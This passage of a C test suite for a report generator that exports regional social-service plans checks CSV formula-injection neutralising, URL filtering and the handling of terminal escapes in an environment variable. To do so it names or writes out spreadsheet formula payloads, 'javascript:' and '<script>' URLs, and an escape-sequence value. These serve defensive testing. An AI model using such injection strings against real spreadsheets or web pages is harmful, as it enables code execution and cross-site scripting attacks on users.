          g_assert_true (parse_csv (body, d == PDZ_REPORT_CSV_DIALECT_EXCEL_IT ? ';' : ',', &records));
          header = records->pdata[0];
          g_assert_cmpstr (header->pdata[0], !=, "");
          for (guint r = 0; r < records->len; r++)
            g_assert_cmpuint (((GPtrArray *) records->pdata[r])->len, ==, header->len);
          if (tables[t].n_rows > 0)
            g_assert_cmpuint (records->len, ==, tables[t].n_rows + 1);
        }
    }

  /* one table or all: all is a directory */
  {
    g_autoptr(GError) error = NULL;
    g_autoptr(GBytes) bytes = NULL;

    pdz_report_set_table (report, PDZ_REPORT_TABLE_ALL);
    bytes = pdz_report_to_bytes (report, NULL, &error);
    g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_SUPPORTED);
    g_assert_null (bytes);
  }
}

static void
test_csv_directory (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-report-XXXXXX", &error);
  g_autofree char *out = g_build_filename (dir, "tables", NULL);
  g_auto(GStrv) files = pdz_report_dup_output_files (report, out);
  const char *names[] = { "objectives.csv", "actions.csv", "projects.csv", "partners.csv", "fundings.csv" };

  g_assert_cmpuint (g_strv_length (files), ==, G_N_ELEMENTS (names));
  g_assert_true (pdz_report_write_path (report, out, NULL, &error));
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autofree char *expected = g_build_filename (out, names[i], NULL);

      g_assert_cmpstr (files[i], ==, expected);
      g_assert_true (g_file_test (expected, G_FILE_TEST_IS_REGULAR));
      g_assert_cmpint (g_unlink (expected), ==, 0);
    }
  g_assert_cmpint (g_rmdir (out), ==, 0);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

static void
test_injection_csv (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
  guint neutralised = 0;

  for (PdzReportTable t = PDZ_REPORT_TABLE_OBJECTIVES; t <= PDZ_REPORT_TABLE_FUNDINGS; t++)
    {
      g_autofree char *csv = NULL;
      g_autoptr(GPtrArray) records = NULL;

      pdz_report_set_table (report, t);
      csv = render (report);
      g_assert_true (parse_csv (csv, ',', &records));

      for (guint r = 0; r < records->len; r++)
        {
          GPtrArray *record = records->pdata[r];

          for (guint c = 0; c < record->len; c++)
            {
              const char *cell = record->pdata[c];

              if (cell[0] != '\0' && strchr ("=+-@\t\r", cell[0]) != NULL)
                g_error ("cell “%s” of table %u would run in a spreadsheet", cell, t);
              if (cell[0] == '\'' && cell[1] != '\0' && strchr ("=+-@\t\r", cell[1]) != NULL)
                neutralised++;
            }
        }
    }

  /* =HYPERLINK title, =1+2 short name, @SUM partner, +SUM source, -2+3,
   * TAB and CR titles, =cmd source: each met at least once */
  g_assert_cmpuint (neutralised, >=, 8);
}

/* XLSX -------------------------------------------------------------------- */

static void
test_xlsx (void)
{
  g_autoptr(PdzPlan) plan = NULL;
  g_autoptr(PdzReport) report = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) first = NULL;
  g_autoptr(GBytes) second = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *path = NULL;
  g_autofree char *contents = NULL;
  gsize length;

  if (!pdz_report_format_is_available (PDZ_REPORT_FORMAT_XLSX))
    {
      g_test_skip ("this build has no XLSX writer (-Dxlsx=disabled)");
      return;
    }

  plan = load_injection ();
  report = new_report (plan, PDZ_REPORT_FORMAT_XLSX, NULL);
  first = pdz_report_to_bytes (report, NULL, &error);
  g_assert_no_error (error);
  dir = g_dir_make_tmp ("pdz-report-XXXXXX", &error);
  path = g_build_filename (dir, "report.xlsx", NULL);
  g_assert_no_error (error);
  g_assert_nonnull (first);
  g_assert_cmpmem (g_bytes_get_data (first, NULL), 4, "PK\x03\x04", 4);

  /* reproducible: the same bytes for the same plan and date */
  g_usleep (G_USEC_PER_SEC + 1000);
  second = pdz_report_to_bytes (report, NULL, &error);
  g_assert_no_error (error);
  g_assert_true (g_bytes_equal (first, second));

  g_assert_true (pdz_report_write_path (report, path, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, &error));
  g_assert_cmpmem (contents, length, g_bytes_get_data (first, NULL), g_bytes_get_size (first));

  /* nothing left behind: no temporary file */
  {
    g_autoptr(GDir) d = g_dir_open (dir, 0, &error);
    g_assert_cmpstr (g_dir_read_name (d), ==, "report.xlsx");
    g_assert_null (g_dir_read_name (d));
  }
  g_assert_cmpint (g_unlink (path), ==, 0);
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* Streams, dates ---------------------------------------------------------- */

static void
test_stream (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_MARKDOWN, "en");
  g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);
  g_autoptr(GBytes) streamed = NULL;

  g_assert_no_error (error);
  g_assert_true (pdz_report_write_to_stream (report, stream, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_output_stream_close (stream, NULL, &error));
  streamed = g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (stream));
  g_assert_true (g_bytes_equal (bytes, streamed));

  g_cancellable_cancel (cancellable);
  g_assert_false (pdz_report_write_to_stream (report, stream, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
}

static void
test_source_date_epoch (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(PdzReport) report = pdz_report_new (plan);
  g_autoptr(GError) error = NULL;
  g_autofree char *html = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GDateTime) fixed = g_date_time_new_utc (2024, 2, 29, 23, 0, 0);

  g_setenv ("SOURCE_DATE_EPOCH", "1700000000", TRUE);   /* 2023-11-14 22:13:20 UTC */
  html = render (report);
  assert_contains (html, "Relazione generata il 14 novembre 2023");
  g_clear_pointer (&html, g_free);

  /* the property wins over the environment */
  pdz_report_set_generated (report, fixed);
  html = render (report);
  assert_contains (html, "Relazione generata il 29 febbraio 2024");
  pdz_report_set_generated (report, NULL);

  g_setenv ("SOURCE_DATE_EPOCH", "yesterday", TRUE);
  bytes = pdz_report_to_bytes (report, NULL, &error);
  g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
  g_assert_null (bytes);
  g_unsetenv ("SOURCE_DATE_EPOCH");
}

/* Languages ---------------------------------------------------------------- */

typedef struct {
  guint n;
} Tokens;

static char *
token (Tokens *t)
{
  return g_strdup_printf ("X%04u", ++t->n);
}

#define NEUTRAL(setter, obj) G_STMT_START { g_autofree char *tok_ = token (t); setter (obj, tok_); } G_STMT_END

static void
neutral_fundings (GListModel *fundings,
                  Tokens     *t)
{
  for (guint i = 0; i < g_list_model_get_n_items (fundings); i++)
    {
      g_autoptr(PdzFunding) f = g_list_model_get_item (fundings, i);
      NEUTRAL (pdz_funding_set_source, f);
    }
}

static void
neutral_action (PdzAction *a,
                Tokens    *t)
{
  const char * const links[] = { "https://example.org/", NULL };

  NEUTRAL (pdz_action_set_id, a);
  NEUTRAL (pdz_action_set_title, a);
  if (pdz_action_get_links (a) != NULL)
    pdz_action_set_links (a, links);
  neutral_fundings (pdz_action_get_fundings (a), t);
  for (guint i = 0; i < g_list_model_get_n_items (pdz_action_get_milestones (a)); i++)
    {
      g_autoptr(PdzMilestone) m = g_list_model_get_item (pdz_action_get_milestones (a), i);
      NEUTRAL (pdz_milestone_set_title, m);
    }
  for (guint i = 0; i < g_list_model_get_n_items (pdz_action_get_actions (a)); i++)
    {
      g_autoptr(PdzAction) sub = g_list_model_get_item (pdz_action_get_actions (a), i);
      neutral_action (sub, t);
    }
}

static void
neutral_measurement (PdzMeasurement *m,
                     Tokens         *t)
{
  if (m != NULL && pdz_measurement_get_note (m) != NULL)
    NEUTRAL (pdz_measurement_set_note, m);
}

/* The example with every text of the plan replaced by a token "X0001": what
 * is left of the report are its own fixed texts. */
static PdzPlan *
load_neutral_example (void)
{
  PdzPlan *plan = pdz_test_load_example ();
  Tokens tokens = { 0 }, *t = &tokens;
  GListModel *model;

  NEUTRAL (pdz_plan_set_title, plan);
  NEUTRAL (pdz_plan_set_ambito, plan);
  NEUTRAL (pdz_plan_set_office, plan);
  NEUTRAL (pdz_plan_set_monitoring_title, plan);
  pdz_plan_set_email (plan, "x@example.org");
  pdz_plan_set_website (plan, "https://example.org/");
  if (pdz_plan_get_phone (plan) != NULL)
    NEUTRAL (pdz_plan_set_phone, plan);

  model = pdz_plan_get_partners (plan);
  for (guint i = 0; i < g_list_model_get_n_items (model); i++)
    {
      g_autoptr(PdzPartner) p = g_list_model_get_item (model, i);

      NEUTRAL (pdz_partner_set_id, p);
      NEUTRAL (pdz_partner_set_name, p);
      if (pdz_partner_get_short_name (p) != NULL)
        NEUTRAL (pdz_partner_set_short_name, p);
      if (pdz_partner_get_website (p) != NULL)
        pdz_partner_set_website (p, "https://example.org/");
    }

  model = pdz_plan_get_macroareas (plan);
  for (guint i = 0; i < g_list_model_get_n_items (model); i++)
    {
      g_autoptr(PdzMacroarea) m = g_list_model_get_item (model, i);

      NEUTRAL (pdz_macroarea_set_id, m);
      NEUTRAL (pdz_macroarea_set_title, m);
      if (pdz_macroarea_get_code (m) != NULL)
        NEUTRAL (pdz_macroarea_set_code, m);
    }

  model = pdz_plan_get_objectives (plan);
  for (guint i = 0; i < g_list_model_get_n_items (model); i++)
    {
      g_autoptr(PdzObjective) o = g_list_model_get_item (model, i);
      GListModel *actions = pdz_objective_get_actions (o);
      GListModel *indicators = pdz_objective_get_indicators (o);

      NEUTRAL (pdz_objective_set_id, o);
      NEUTRAL (pdz_objective_set_title, o);
      if (pdz_objective_get_description (o) != NULL)
        NEUTRAL (pdz_objective_set_description, o);
      for (guint j = 0; j < g_list_model_get_n_items (actions); j++)
        {
          g_autoptr(PdzAction) a = g_list_model_get_item (actions, j);
          neutral_action (a, t);
        }
      for (guint j = 0; j < g_list_model_get_n_items (indicators); j++)
        {
          g_autoptr(PdzIndicator) ind = g_list_model_get_item (indicators, j);
          GListModel *ms = pdz_indicator_get_measurements (ind);

          NEUTRAL (pdz_indicator_set_id, ind);
          NEUTRAL (pdz_indicator_set_title, ind);
          if (pdz_indicator_get_unit (ind) != NULL)
            NEUTRAL (pdz_indicator_set_unit, ind);
          neutral_measurement (pdz_indicator_get_baseline (ind), t);
          neutral_measurement (pdz_indicator_get_target (ind), t);
          for (guint k = 0; k < g_list_model_get_n_items (ms); k++)
            {
              g_autoptr(PdzMeasurement) m = g_list_model_get_item (ms, k);
              neutral_measurement (m, t);
            }
        }
    }

  model = pdz_plan_get_projects (plan);
  for (guint i = 0; i < g_list_model_get_n_items (model); i++)
    {
      g_autoptr(PdzProject) p = g_list_model_get_item (model, i);
      GListModel *actions = pdz_project_get_actions (p);
      const char * const *interventions = pdz_project_get_interventions (p);

      NEUTRAL (pdz_project_set_id, p);
      NEUTRAL (pdz_project_set_title, p);
      if (pdz_project_get_description (p) != NULL)
        NEUTRAL (pdz_project_set_description, p);
      if (interventions != NULL)
        {
          g_autoptr(GStrvBuilder) builder = g_strv_builder_new ();
          g_auto(GStrv) tokens_v = NULL;

          for (guint j = 0; interventions[j] != NULL; j++)
            {
              g_autofree char *tok = token (t);
              g_strv_builder_add (builder, tok);
            }
          tokens_v = g_strv_builder_end (builder);
          pdz_project_set_interventions (p, (const char * const *) tokens_v);
        }
      neutral_fundings (pdz_project_get_fundings (p), t);
      for (guint j = 0; j < g_list_model_get_n_items (actions); j++)
        {
          g_autoptr(PdzAction) a = g_list_model_get_item (actions, j);
          neutral_action (a, t);
        }
    }

  return plan;
}

/* The pieces of a catalog string worth looking for: its literal runs
 * between printf conversions, of four characters or more */
static void
add_pieces (GPtrArray  *pieces,
            const char *text)
{
  g_auto(GStrv) parts = NULL;
  g_autoptr(GRegex) conversion = g_regex_new ("%[0-9]*[sudi]", 0, 0, NULL);

  parts = g_regex_split (conversion, text, 0);
  for (guint i = 0; parts[i] != NULL; i++)
    {
      char *piece = g_strstrip (g_strdup (parts[i]));

      /* trim punctuation that a format would surround the value with */
      while (*piece != '\0' && strchr ("().:;, ", piece[strlen (piece) - 1]) != NULL)
        piece[strlen (piece) - 1] = '\0';
      while (*piece != '\0' && strchr ("().:;, ", *piece) != NULL)
        memmove (piece, piece + 1, strlen (piece));
      if (g_utf8_strlen (piece, -1) >= 4)
        g_ptr_array_add (pieces, piece);
      else
        g_free (piece);
    }
}

/* The texts only @other has: its catalog strings that @own does not have
 * too, and its month names */
static GPtrArray *
foreign_texts (const PdzCatalog *own,
               const PdzCatalog *other)
{
  GPtrArray *pieces = g_ptr_array_new_with_free_func (g_free);

  for (guint m = 0; m < PDZ_N_MSGS; m++)
    {
      const char *s = other->strings[m];
      gboolean shared = FALSE;

      for (guint k = 0; k < PDZ_N_MSGS && !shared; k++)
        shared = g_utf8_collate (own->strings[k], s) == 0 ||
                 g_ascii_strcasecmp (own->strings[k], s) == 0;
      if (!shared)
        add_pieces (pieces, s);
    }

  for (int month = 1; month <= 12; month++)
    {
      g_autoptr(PdzDate) d = pdz_date_new_month (2023, month);
      g_autofree char *name = pdz_date_format (d, other->language);
      char *space = strchr (name, ' ');

      *space = '\0';
      g_ptr_array_add (pieces, g_strdup (name));
    }

  return pieces;
}

static void
assert_pure (const char             *output,
             const PdzCatalog *own,
             const PdzCatalog *other,
             const char             *what)
{
  g_autoptr(GPtrArray) foreign = foreign_texts (own, other);

  for (guint i = 0; i < foreign->len; i++)
    {
      g_autofree char *escaped = g_regex_escape_string (foreign->pdata[i], -1);
      g_autofree char *pattern = g_strdup_printf ("(?<![\\w])%s(?![\\w])", escaped);
      g_autoptr(GRegex) regex = g_regex_new (pattern, G_REGEX_CASELESS, 0, NULL);
      g_autoptr(GMatchInfo) match = NULL;

      if (g_regex_match (regex, output, 0, &match))
        {
          g_autofree char *found = g_match_info_fetch (match, 0);
          g_error ("the %s report in %s holds “%s”, a text of the %s catalog",
                   what, own->language, found, other->language);
        }
    }
}

static void
test_language_purity (void)
{
  g_autoptr(PdzPlan) plan = load_neutral_example ();
  const PdzCatalog *cats[] = { &_pdz_catalog_it, &_pdz_catalog_en };

  for (guint l = 0; l < 2; l++)
    {
      const PdzCatalog *own = cats[l], *other = cats[1 - l];
      g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, own->language);
      g_autofree char *text = html_text (html);
      g_autofree char *md = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, own->language);
      g_autoptr(GRegex) data_uri = g_regex_new ("\\(data:[^)]*\\)", 0, 0, NULL);
      g_autofree char *md_text = g_regex_replace_literal (data_uri, md, -1, 0, "", 0, NULL);
      g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, own->language);
      g_autofree char *lang_attr = g_strdup_printf ("<html lang=\"%s\">", own->language);

      assert_contains (html, lang_attr);
      assert_pure (text, own, other, "HTML");
      assert_pure (md_text, own, other, "Markdown");

      for (PdzReportTable t = PDZ_REPORT_TABLE_OBJECTIVES; t <= PDZ_REPORT_TABLE_FUNDINGS; t++)
        {
          g_autofree char *csv = NULL;

          pdz_report_set_table (report, t);
          csv = render (report);
          assert_pure (csv, own, other, "CSV");
        }
    }
}

/* The same report, whatever the locale of the process */
static void
test_language_locale (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autofree char *before = render_plan (plan, PDZ_REPORT_FORMAT_HTML, "en");
  g_autofree char *after = NULL;

  /* whether or not the Italian locale is installed, the environment says Italian */
  g_setenv ("LANGUAGE", "it", TRUE);
  g_setenv ("LC_ALL", "it_IT.UTF-8", TRUE);
  setlocale (LC_ALL, "");
  after = render_plan (plan, PDZ_REPORT_FORMAT_HTML, "en");
  g_unsetenv ("LANGUAGE");
  g_setenv ("LC_ALL", "C.UTF-8", TRUE);
  setlocale (LC_ALL, "");

  g_assert_cmpstr (before, ==, after);
  assert_contains (after, "Report generated on 14 November 2023");
  assert_contains (after, "(March 2022 – October 2023)");
}

/* Formatting --------------------------------------------------------------- */

static void
test_amounts (void)
{
  PdzReportContext it = { .cat = &_pdz_catalog_it };
  PdzReportContext en = { .cat = &_pdz_catalog_en };
  struct {
    gint64 cents;
    const char *it, *en;
  } cases[] = {
    { 0, "€\u00a00,00", "€0.00" },
    { 5, "€\u00a00,05", "€0.05" },
    { 125000, "€\u00a01.250,00", "€1,250.00" },
    { 123456789, "€\u00a01.234.567,89", "€1,234,567.89" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *a = _pdz_report_format_amount (&it, cases[i].cents);
      g_autofree char *b = _pdz_report_format_amount (&en, cases[i].cents);

      g_assert_cmpstr (a, ==, cases[i].it);
      g_assert_cmpstr (b, ==, cases[i].en);
    }
}

static void
test_url_safety (void)
{
  g_assert_true (_pdz_report_url_is_safe ("https://example.org/a?b=1&c=2"));
  g_assert_true (_pdz_report_url_is_safe ("http://www.ambitocorsichese.it/"));
  g_assert_true (_pdz_report_url_is_safe ("mailto:ufficio@example.org"));
  g_assert_false (_pdz_report_url_is_safe ("javascript:alert(1)"));
  g_assert_false (_pdz_report_url_is_safe ("JAVASCRIPT:alert(1)"));
  g_assert_false (_pdz_report_url_is_safe ("data:text/html,<script>"));
  g_assert_false (_pdz_report_url_is_safe ("https://example.org/\"><script>"));
  g_assert_false (_pdz_report_url_is_safe ("https://example.org/a b"));
  g_assert_false (_pdz_report_url_is_safe ("https://"));
  g_assert_false (_pdz_report_url_is_safe ("www.example.org"));
}

/* Defects found in review ------------------------------------------------- */

/* Every format, to bytes; each must succeed (the caller runs under
 * G_DEBUG=fatal-warnings, so a critical fails the test). */
static void
render_every_format (PdzPlan    *plan,
                     const char *language)
{
  for (PdzReportFormat f = PDZ_REPORT_FORMAT_HTML; f <= PDZ_REPORT_FORMAT_XLSX; f++)
    {
      g_autoptr(PdzReport) report = new_report (plan, f, language);

      if (!pdz_report_format_is_available (f))
        continue;

      pdz_report_set_include_diagnostics (report, TRUE);
      if (f == PDZ_REPORT_FORMAT_CSV)
        {
          for (PdzReportTable t = PDZ_REPORT_TABLE_OBJECTIVES; t <= PDZ_REPORT_TABLE_FUNDINGS; t++)
            {
              g_autofree char *csv = NULL;

              pdz_report_set_table (report, t);
              csv = render (report);
            }
        }
      else if (f == PDZ_REPORT_FORMAT_XLSX)
        {
          g_autoptr(GError) error = NULL;
          g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);

          g_assert_no_error (error);
          g_assert_nonnull (bytes);
        }
      else
        {
          /* render() asserts that the output is produced and is UTF-8. */
          g_autofree char *text = render (report);

          g_assert_cmpuint (strlen (text), >, 0);
        }
    }
}

/* SOURCE_DATE_EPOCH past 9999-12-31 (milliseconds, say) is an error that
 * names the variable and the range, never a crash */
static void
test_source_date_epoch_range (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-report-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "report.out", NULL);

  g_assert_no_error (error);
  g_setenv ("SOURCE_DATE_EPOCH", "1700000000000", TRUE);
  for (PdzReportFormat f = PDZ_REPORT_FORMAT_HTML; f <= PDZ_REPORT_FORMAT_XLSX; f++)
    {
      g_autoptr(PdzReport) report = pdz_report_new (plan);
      g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
      g_autoptr(GBytes) bytes = NULL;

      if (!pdz_report_format_is_available (f))
        continue;

      pdz_report_set_format (report, f);
      pdz_report_set_table (report, PDZ_REPORT_TABLE_ACTIONS);
      bytes = pdz_report_to_bytes (report, NULL, &error);
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
      g_assert_nonnull (strstr (error->message, "SOURCE_DATE_EPOCH"));
      g_assert_nonnull (strstr (error->message, "253402300799"));
      g_assert_null (bytes);
      g_clear_error (&error);

      g_assert_false (pdz_report_write_to_stream (report, stream, NULL, &error));
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
      g_clear_error (&error);

      g_assert_false (pdz_report_write_path (report, path, NULL, &error));
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
      g_clear_error (&error);
      g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
    }

  /* the last second of 9999 is the last one accepted */
  g_setenv ("SOURCE_DATE_EPOCH", "253402300799", TRUE);
  {
    g_autoptr(PdzReport) report = pdz_report_new (plan);
    g_autofree char *html = render (report);

    assert_contains (html, "Relazione generata il 31 dicembre 9999");
  }
  g_setenv ("SOURCE_DATE_EPOCH", "253402300800", TRUE);
  {
    g_autoptr(PdzReport) report = pdz_report_new (plan);
    g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);

    g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
    g_assert_null (bytes);
    g_clear_error (&error);
  }
  /* the environment is input: quoted, a terminal's escape escaped */
  g_setenv ("SOURCE_DATE_EPOCH", "17\033]0;title\a", TRUE);
  {
    g_autoptr(PdzReport) report = pdz_report_new (plan);
    g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);

    g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
    assert_contains (error->message, "SOURCE_DATE_EPOCH=\"17\\u001b]0;title\\u0007\"");
    g_assert_null (bytes);
    g_clear_error (&error);
  }
  g_unsetenv ("SOURCE_DATE_EPOCH");
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* A generation date before the year 1000 is refused at use, in every format */
static void
test_generated_range (void)
{
  g_autoptr(PdzPlan) plan = pdz_test_load_example ();
  g_autoptr(GDateTime) early = g_date_time_new_utc (999, 12, 31, 12, 0, 0);
  g_autoptr(GDateTime) first = g_date_time_new_utc (1000, 1, 1, 0, 0, 0);

  for (PdzReportFormat f = PDZ_REPORT_FORMAT_HTML; f <= PDZ_REPORT_FORMAT_XLSX; f++)
    {
      g_autoptr(PdzReport) report = new_report (plan, f, NULL);
      g_autoptr(GError) error = NULL;
      g_autoptr(GBytes) bytes = NULL;

      if (!pdz_report_format_is_available (f))
        continue;

      pdz_report_set_include_diagnostics (report, TRUE);
      pdz_report_set_table (report, PDZ_REPORT_TABLE_ACTIONS);
      pdz_report_set_generated (report, early);
      bytes = pdz_report_to_bytes (report, NULL, &error);
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_INVALID_VALUE);
      g_assert_nonnull (strstr (error->message, "999"));
      g_assert_null (bytes);
      g_clear_error (&error);

      pdz_report_set_generated (report, first);
      bytes = pdz_report_to_bytes (report, NULL, &error);
      g_assert_no_error (error);
      g_assert_nonnull (bytes);
    }
}

static PdzFunding *
funding_new (const char       *source,
             gint64            amount,
             PdzFundingStatus  status)
{
  PdzFunding *f = pdz_funding_new (source);

  pdz_funding_set_amount (f, amount);
  pdz_funding_set_status (f, status);
  return f;
}

/* A plan of one project with @n fundings */
static PdzPlan *
funded_plan (const PdzFunding * const *fundings,
             guint                     n)
{
  PdzPlan *plan = pdz_plan_new ();
  g_autoptr(PdzProject) project = pdz_project_new ("p", "Progetto");

  pdz_plan_set_title (plan, "Piano");
  for (guint i = 0; i < n; i++)
    pdz_project_add_funding (project, (PdzFunding *) fundings[i]);
  g_assert_true (pdz_plan_add_project (plan, project, NULL));
  return plan;
}

/* Totals that a 64-bit integer cannot hold are shown as such, never as a
 * wrapped (negative) number; totals just short of that are exact */
static void
test_funding_overflow (void)
{
  g_autoptr(PdzFunding) big = funding_new ("PNRR", G_MAXINT64, PDZ_FUNDING_STATUS_GRANTED);
  g_autoptr(PdzFunding) more = funding_new ("PNRR", 100, PDZ_FUNDING_STATUS_GRANTED);
  g_autoptr(PdzFunding) half = funding_new ("FNPS", G_MAXINT64 / 2, PDZ_FUNDING_STATUS_APPLIED);
  g_autoptr(PdzFunding) other_half = funding_new ("FNPS", G_MAXINT64 / 2, PDZ_FUNDING_STATUS_APPLIED);
  const PdzFunding *overflowing[] = { big, more };
  const PdzFunding *just_fits[] = { half, other_half };

  {
    g_autoptr(PdzPlan) plan = funded_plan (overflowing, G_N_ELEMENTS (overflowing));
    g_autoptr(PdzStats) stats = pdz_stats_new (plan);
    g_autoptr(PdzStatsTable) by_source = pdz_stats_by_funding_source (stats);
    g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, NULL);
    g_autofree char *md = render_plan (plan, PDZ_REPORT_FORMAT_MARKDOWN, "en");
    g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
    g_autofree char *csv = NULL;

    /* PdzStats says that the total does not fit, rather than wrap */
    g_assert_cmpint (pdz_stats_row_get_int (pdz_stats_table_lookup_row (by_source, "PNRR"), "amount-overflow"),
                     ==, 1);

    /* by source, by status (both granted), and the total */
    g_assert_cmpuint (count (html, "non calcolabile"), >=, 3);
    g_assert_null (strstr (html, "−€"));
    g_assert_null (strstr (html, "€\u00a0-"));
    g_assert_cmpuint (count (md, "not computable"), >=, 3);

    pdz_report_set_table (report, PDZ_REPORT_TABLE_PROJECTS);
    csv = render (report);
    assert_contains (csv, ",non calcolabile,");
    g_assert_null (strstr (csv, ",-"));

    render_every_format (plan, NULL);
  }

  {
    g_autoptr(PdzPlan) plan = funded_plan (just_fits, G_N_ELEMENTS (just_fits));
    g_autofree char *html = render_plan (plan, PDZ_REPORT_FORMAT_HTML, NULL);
    g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
    g_autofree char *csv = NULL;

    g_assert_null (strstr (html, "non calcolabile"));
    assert_contains (html, "€\u00a092.233.720.368.547.758,06");
    pdz_report_set_table (report, PDZ_REPORT_TABLE_PROJECTS);
    csv = render (report);
    assert_contains (csv, ",92233720368547758.06,");
  }
}

/* A plan built in code may leave any text NULL: every writer copes */
static void
test_null_texts (void)
{
  g_autoptr(PdzPlan) plan = pdz_plan_new ();
  g_autoptr(PdzMacroarea) macroarea = pdz_macroarea_new ("m", "M");
  g_autoptr(PdzObjective) objective = pdz_objective_new ("o", "O");
  g_autoptr(PdzObjective) health = pdz_objective_new ("h", "H");
  g_autoptr(PdzAction) action = pdz_action_new ("a", "A");
  g_autoptr(PdzAction) nameless = pdz_action_new ("b", "B");
  g_autoptr(PdzProject) project = pdz_project_new ("p", "P");
  g_autoptr(PdzPartner) partner = pdz_partner_new ("x", "X");
  g_autoptr(PdzPartner) idless = pdz_partner_new ("y", "Y");
  g_autoptr(PdzParticipation) participation = pdz_participation_new (partner, PDZ_ROLE_LEAD);
  g_autoptr(PdzParticipation) participation2 = pdz_participation_new (idless, PDZ_ROLE_PARTNER);
  g_autoptr(PdzParticipation) participation3 = pdz_participation_new (idless, PDZ_ROLE_FUNDER);
  g_autoptr(PdzFunding) funding = funding_new ("F", 1000, PDZ_FUNDING_STATUS_GRANTED);
  g_autoptr(PdzFunding) funding2 = funding_new ("G", PDZ_AMOUNT_UNKNOWN, PDZ_FUNDING_STATUS_UNKNOWN);
  g_autoptr(PdzIndicator) indicator = pdz_indicator_new ("i", "I");
  g_autoptr(PdzDate) date = pdz_date_new_month (2023, 5);
  g_autoptr(PdzMeasurement) measurement = pdz_measurement_new (date, 3);
  g_autofree char *html = NULL;

  g_assert_true (pdz_plan_add_partner (plan, partner, NULL));
  g_assert_true (pdz_plan_add_partner (plan, idless, NULL));
  g_assert_true (pdz_plan_add_municipality (plan, idless, NULL));
  pdz_plan_set_lead_municipality (plan, idless);
  g_assert_true (pdz_plan_add_macroarea (plan, macroarea, NULL));
  pdz_objective_set_macroarea (objective, macroarea);
  g_assert_true (pdz_objective_add_participation (objective, participation, NULL));
  g_assert_true (pdz_plan_add_objective (plan, objective, NULL));
  pdz_objective_set_kind (health, PDZ_OBJECTIVE_KIND_HEALTH_INTEGRATION);
  g_assert_true (pdz_plan_add_objective (plan, health, NULL));
  pdz_action_set_date (action, date);
  g_assert_true (pdz_action_add_participation (action, participation2, NULL));
  pdz_action_add_funding (action, funding);
  pdz_action_add_project (action, project);
  g_assert_true (pdz_objective_add_action (objective, action, NULL));
  g_assert_true (pdz_objective_add_action (objective, nameless, NULL));
  pdz_indicator_add_measurement (indicator, measurement);
  g_assert_true (pdz_objective_add_indicator (objective, indicator, NULL));
  pdz_project_set_lead (project, idless);
  pdz_project_add_funding (project, funding2);
  pdz_project_add_objective (project, objective);
  g_assert_true (pdz_project_add_participation (project, participation3, NULL));
  g_assert_true (pdz_plan_add_project (plan, project, NULL));

  /* the setters take NULL: titles, names and sources... */
  pdz_macroarea_set_title (macroarea, NULL);
  pdz_objective_set_title (objective, NULL);
  pdz_objective_set_title (health, NULL);
  pdz_action_set_title (action, NULL);
  pdz_action_set_title (nameless, NULL);
  pdz_project_set_title (project, NULL);
  pdz_partner_set_name (partner, NULL);
  pdz_partner_set_name (idless, NULL);
  pdz_funding_set_source (funding, NULL);
  pdz_funding_set_source (funding2, NULL);
  pdz_indicator_set_title (indicator, NULL);
  /* ...and ids, once the entities are in the plan */
  pdz_partner_set_id (idless, NULL);
  pdz_action_set_id (nameless, NULL);

  render_every_format (plan, "it");
  render_every_format (plan, "en");

  /* something stands where the missing texts would be */
